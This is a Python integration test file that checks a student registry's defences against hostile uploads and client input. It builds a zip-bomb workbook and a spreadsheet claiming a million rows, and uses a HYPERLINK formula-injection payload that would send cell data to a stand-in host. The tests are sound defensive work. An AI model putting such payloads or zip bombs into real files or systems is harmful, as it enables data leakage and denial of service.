"""The registry's HTTP edge against hostile or careless clients (issue 15): hostile spreadsheets, ID numbers leaving
through one route only (R52), outsiders told nothing about a record (R50), client retries, formula injection in
exports, control characters and invalid UTF-8."""

from __future__ import annotations

import asyncio
import io
import json
import time
import zipfile

import pytest
from http_fixtures import signed_in
from openpyxl import Workbook, load_workbook
from registry_driver import verdict

from xueji_contracts.auth import OperatorClaims
from xueji_contracts.messages.dedupe import VerdictGiven, VerdictKind
from xueji_kit.security import mint_token
from xueji_registry.app import create_app
from xueji_registry.settings import RegistrySettings

pytestmark = pytest.mark.integration

SCHOOL = "3506020001"
RAW_ID = "350602201905010163"
STUDENT = {
    "school_code": SCHOOL,
    "name": "陈小雨",
    "id_number": RAW_ID,
    "gender": "female",
    "birth_date": "2019-05-01",
    "grade": 1,
    "school_year": 2026,
}
FORM = {"school_code": SCHOOL, "school_year": "2026"}

_as = signed_in(SCHOOL)


async def _enrolled(registry, token) -> str:
    created = await registry.post("/v1/students", json=STUDENT, headers=_as(token))
    assert created.status_code == 201, created.text
    return str(created.json()["student_id"])


# --- defect 3: a hostile spreadsheet must not freeze the registry -----------------------------------------------


def _claiming_a_million_rows() -> bytes:
    """A few KB of .xlsx whose sheet says it spans A1:XFD1048576 and has a cell in its very last row."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["姓名", "性别", "出生日期", "年级"])
    sheet.cell(row=1_048_576, column=4, value="一")
    sheet.cell(row=2, column=16_384, value="x")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _zip_bomb() -> bytes:
    """A valid-looking workbook whose sheet unpacks to 100 MB of whitespace (a few hundred KB packed)."""
    buffer = io.BytesIO()
    book = Workbook()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData></sheetData>", b"<sheetData>" + b" " * 100_000_000 + b"</sheetData>")
                assert len(data) > 100_000_000
            bomb.writestr(item.filename, data)
    return out.getvalue()


async def _slowest_health_answer(registry, until: asyncio.Task) -> float:
    slowest = 0.0
    while not until.done():
        started = time.perf_counter()
        answer = await registry.get("/healthz")
        assert answer.status_code == 200
        slowest = max(slowest, time.perf_counter() - started)
        await asyncio.sleep(0.02)
    return slowest


async def test_a_hostile_workbook_is_refused_with_422_while_other_requests_keep_answering(start_app, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    hostile = _claiming_a_million_rows()
    assert len(hostile) < 20_000
    upload = registry.post(
        "/v1/students/bulk",
        files={"file": ("class.xlsx", hostile, "application/octet-stream")},
        data=FORM,
        headers=_as(token),
    )
    task = asyncio.ensure_future(upload)
    slowest = await _slowest_health_answer(registry, task)
    answer = await task
    assert answer.status_code == 422, answer.text
    problem = answer.json()["detail"][0]
    assert problem["field"] == "file" and ("rows" in problem["reason"] or "columns" in problem["reason"])
    assert slowest < 0.5, f"the event loop stalled {slowest:.2f} s while a spreadsheet was read"


async def test_a_zip_bomb_is_refused_by_its_directory_before_it_is_unpacked(start_app, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    bomb = _zip_bomb()
    started = time.perf_counter()
    answer = await registry.post(
        "/v1/students/bulk", files={"file": ("class.xlsx", bomb, "application/octet-stream")}, data=FORM,
        headers=_as(token),
    )  # fmt: skip
    assert answer.status_code == 422, answer.text
    assert "unpacks" in answer.json()["detail"][0]["reason"]
    assert time.perf_counter() - started < 5


async def test_a_truncated_workbook_answers_422_naming_the_problem(start_app, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["姓名", "性别", "出生日期", "年级"])
    for n in range(2000):
        sheet.append([f"学生{n}", "男", "2019-05-01", 1])
    buffer = io.BytesIO()
    book.save(buffer)
    for cut in (len(buffer.getvalue()) // 2, len(buffer.getvalue()) - 30):
        truncated = buffer.getvalue()[:cut]
        answer = await registry.post(
            "/v1/students/bulk", files={"file": ("class.xlsx", truncated, "application/octet-stream")}, data=FORM,
            headers=_as(token),
        )  # fmt: skip
        assert answer.status_code == 422, answer.text
        assert answer.json()["detail"][0]["field"] == "file"
    huge_field = b"\xe5\xa7\x93\xe5\x90\x8d,x\n" + b'"' + b"a" * 200_000 + b'",b\n'
    answer = await registry.post(
        "/v1/students/bulk", files={"file": ("class.csv", huge_field, "text/csv")}, data=FORM, headers=_as(token)
    )
    assert answer.status_code == 422, answer.text


async def test_an_oversized_upload_is_refused_before_it_is_read(start_app, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    too_big = b"a" * (21 * 1024 * 1024)
    answer = await registry.post(
        "/v1/students/bulk", files={"file": ("class.csv", too_big, "text/csv")}, data=FORM, headers=_as(token)
    )
    assert answer.status_code == 413, answer.text
    assert answer.json()["detail"][0]["field"] == "file"


# --- defect 4: a full ID number leaves only through the identity route, and every view is recorded (R52, R51) ----


async def test_r52_history_masks_id_numbers_and_the_identity_route_is_recorded_in_the_audit(
    start_app, dedupe_stub, token
):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    async with dedupe_stub():
        student_id = await _enrolled(registry, token)
    history = await registry.get(f"/v1/students/{student_id}/history", headers=_as(token))
    assert history.status_code == 200
    assert RAW_ID not in history.text and "350602********0163" in history.text
    assert RAW_ID not in (await registry.get(f"/v1/students/{student_id}", headers=_as(token))).text

    path = f"/v1/students/{student_id}/identity"
    for who in (("school", SCHOOL), ("county", "350602")):
        shown = await registry.get(path, headers=_as(token, *who))
        assert shown.status_code == 200, shown.text
        assert shown.json()["id_number"] == RAW_ID and shown.json()["name"] == STUDENT["name"]
    for who in (("city", "350600"), ("province", "350000")):
        assert (await registry.get(path, headers=_as(token, *who))).status_code == 403
    for who in (("school", "3506020002"), ("county", "350603")):
        assert (await registry.get(path, headers=_as(token, *who))).status_code == 404

    audit = (await registry.get("/v1/audit", headers=_as(token, "county", "350602"))).json()
    views = audit["identity_views"]
    assert [(v["student_id"], v["viewed_by"]["role"]) for v in views] == [
        (student_id, "school"),
        (student_id, "county"),
    ]
    assert all(v["viewed_at"] and v["viewed_by"]["sub"] for v in views)
    sheet = await registry.get("/v1/audit.xlsx", headers=_as(token, "county", "350602"))
    book = load_workbook(io.BytesIO(sheet.content))
    assert student_id in str(list(book["身份证件号查看 identity views"].iter_rows(values_only=True)))
    elsewhere = (await registry.get("/v1/audit", headers=_as(token, "county", "350603"))).json()
    assert elsewhere["identity_views"] == []


# --- defect 5 (registry side): an outsider hears what a missing record answers, before anything about it ---------


async def test_r50_an_outsider_gets_the_answer_of_a_missing_record(start_app, dedupe_stub, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    async with dedupe_stub():
        student_id = await _enrolled(registry, token)
    outsider = _as(token, "county", "350102")
    review = {"approve": True, "reason": "ok"}
    change = {"reason": "x", "details": {"kind": "death", "date_of_death": "2026-10-01"}}
    evidence = [{"kind": "status_file", "uri": "s3://f", "sha256": "0" * 64}]
    for suffix, method, body in [
        ("", "GET", None),
        ("/history", "GET", None),
        ("/identity", "GET", None),
        ("/changes", "POST", change),
        ("/changes/nope/review", "POST", review),
        ("/status-file", "POST", {"evidence": evidence}),
        ("/absence", "POST", {"absent_since": "2026-10-01"}),
        ("/absence/end", "POST", {"returned_on": "2026-10-09"}),
    ]:
        real = await registry.request(method, f"/v1/students/{student_id}{suffix}", json=body, headers=outsider)
        missing = await registry.request(method, f"/v1/students/stu_missing{suffix}", json=body, headers=outsider)
        assert real.status_code == missing.status_code == 404, (suffix, real.text, missing.text)
        assert real.json()["detail"].replace(student_id, "X") == missing.json()["detail"].replace("stu_missing", "X")


# --- defect 6: a client retry with an Idempotency-Key gets the first answer ---------------------------------------


def _duplicate_after_first():
    seen: dict[str, str] = {}

    def answer(check: dict) -> VerdictGiven:
        first = seen.setdefault(check["id_number"], check["student_id"])
        if first == check["student_id"]:
            return verdict(VerdictKind.UNIQUE)(check)
        return verdict(VerdictKind.DUPLICATE, existing=first)(check)

    return answer


async def test_a_retried_enrollment_with_an_idempotency_key_gets_the_first_answer(start_app, dedupe_stub, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    headers = {**_as(token), "Idempotency-Key": "enrol-chen-2026"}
    async with dedupe_stub(_duplicate_after_first()):
        first = await registry.post("/v1/students", json=STUDENT, headers=headers)
        retry = await registry.post("/v1/students", json=STUDENT, headers=headers)
        other = await registry.post("/v1/students", json={**STUDENT, "grade": 2}, headers=headers)
    assert first.status_code == 201, first.text
    assert retry.status_code == 201, retry.text
    assert retry.json()["student_id"] == first.json()["student_id"]
    assert other.status_code == 422 and other.json()["detail"][0]["field"] == "Idempotency-Key"
    streams = await registry.app.state.runtime.events.collection.distinct("aggregate_id")
    assert sorted(s for s in streams if s.startswith("enrollment:")) == [f"enrollment:{first.json()['student_id']}"]
    text = json.dumps([e async for c in registry.app.state.runtime.events.every_commit() for e in c["events"]],
                      default=str)  # fmt: skip
    assert "EnrollmentRefused" not in text


# --- defect 8: exported spreadsheets neutralise formulas ------------------------------------------------------------


async def test_exported_cells_never_start_a_formula(start_app, dedupe_stub, token, signing_keys):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    async with dedupe_stub():
        await _enrolled(registry, token)
    claims = OperatorClaims.model_validate({"sub": '=HYPERLINK("http://x.example/?"&A3,"ok")', "role": "county",
                                            "code": "350602"})  # fmt: skip
    hostile = {"Authorization": f"Bearer {mint_token(signing_keys[0], claims)}"}
    sheet = await registry.get("/v1/audit.xlsx", headers=hostile)
    assert sheet.status_code == 200, sheet.text
    book = load_workbook(io.BytesIO(sheet.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("HYPERLINK" in c.value for c in cells)
    assert not [c.value for c in cells if c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(c.data_type != "f" for c in cells)


# --- defect 10: control characters and invalid UTF-8 are refused naming the field ---------------------------------


async def test_names_with_control_characters_and_invalid_utf8_bodies_are_refused(start_app, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    for name in ("陈\x00小雨", "陈\x1b[31m", "陈\u202e小雨"):
        answer = await registry.post("/v1/students", json={**STUDENT, "name": name}, headers=_as(token))
        assert answer.status_code == 422, answer.text
        assert answer.json()["detail"][0]["field"] == "name"
    guardian = {**STUDENT, "basic": {"guardian_name": "林\x07"}}
    answer = await registry.post("/v1/students", json=guardian, headers=_as(token))
    assert answer.status_code == 422 and answer.json()["detail"][0]["field"] == "basic.guardian_name"
    raw = json.dumps(STUDENT, ensure_ascii=False).encode().replace("陈".encode(), b"\xff\xfe")
    answer = await registry.post(
        "/v1/students", content=raw, headers={**_as(token), "content-type": "application/json"}
    )
    assert answer.status_code in (400, 422), answer.text
    assert "UTF-8" in answer.text
    assert await registry.app.state.runtime.events.collection.count_documents({}) == 0


async def test_a_spreadsheet_row_with_control_characters_is_reported_naming_the_field(start_app, dedupe_stub, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    sheet = "姓名,性别,出生日期,年级,监护人\n陈\x07小雨,女,2019-05-01,1,林某\n林小明,男,2019-06-01,1,陈\u202e某\n"
    upload = {"file": ("class.csv", sheet.encode(), "text/csv")}
    async with dedupe_stub():
        answer = await registry.post("/v1/students/bulk", files=upload, data=FORM, headers=_as(token))
    assert answer.status_code == 200, answer.text
    errors = {(e["row"], e["field"]) for e in answer.json()["errors"]}
    assert errors == {(2, "name"), (3, "basic")}, answer.json()["errors"]
    assert answer.json()["requested"] == 0


async def test_a_retried_change_request_with_an_idempotency_key_is_stored_once(start_app, dedupe_stub, token):
    registry = await start_app(create_app, RegistrySettings, scheduler_enabled=False)
    async with dedupe_stub():
        student_id = await _enrolled(registry, token)
    certificate = [{"kind": "death_certificate", "uri": "s3://evidence/death", "sha256": "0" * 64}]
    change = {
        "reason": "家长报告",
        "evidence": certificate,
        "details": {"kind": "death", "date_of_death": "2026-10-01"},
    }
    headers = {**_as(token), "Idempotency-Key": "death-report-1"}
    path = f"/v1/students/{student_id}/changes"
    first = await registry.post(path, json=change, headers=headers)
    retry = await registry.post(path, json=change, headers=headers)
    assert first.status_code == 200, first.text
    assert retry.status_code == 200, retry.text
    assert retry.json()["pending_changes"] == first.json()["pending_changes"]
    history = (await registry.get(f"/v1/students/{student_id}/history", headers=_as(token))).json()["history"]
    assert len(history) == len({(e["version"], e["type"]) for e in history})
    assert retry.json()["version"] == first.json()["version"]
